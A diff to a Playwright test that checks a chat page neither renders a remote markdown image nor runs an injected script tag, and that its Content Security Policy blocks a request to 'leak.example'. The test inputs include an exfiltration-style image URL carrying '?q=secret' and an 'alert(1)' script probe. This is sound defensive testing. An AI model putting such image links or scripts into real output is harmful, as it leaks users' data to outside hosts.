@@ -96,7 +96,7 @@ def test_remote_image_in_a_reply_is_not_fetched(page: Page, scripted: Server) ->
     words = "![x](/public/favicon.svg) ![y](https://leak.example/?q=secret) <script>alert(1)</script>"
     assert say(page, words) == f"You said: {words}"
     assert answers(page).last.locator("img, script").count() == 0
-    # And were one ever shown, the page's policy would stop it. The request itself would fail the test in the fixture.
+    # Were one ever shown, the page's policy would stop it (the request itself fails the test in the fixture).
     page.evaluate("new Image().src = 'https://leak.example/?q=secret'")
     page.wait_for_timeout(500)
     assert any("leak.example" in text and "Content Security Policy" in text for text in refused)
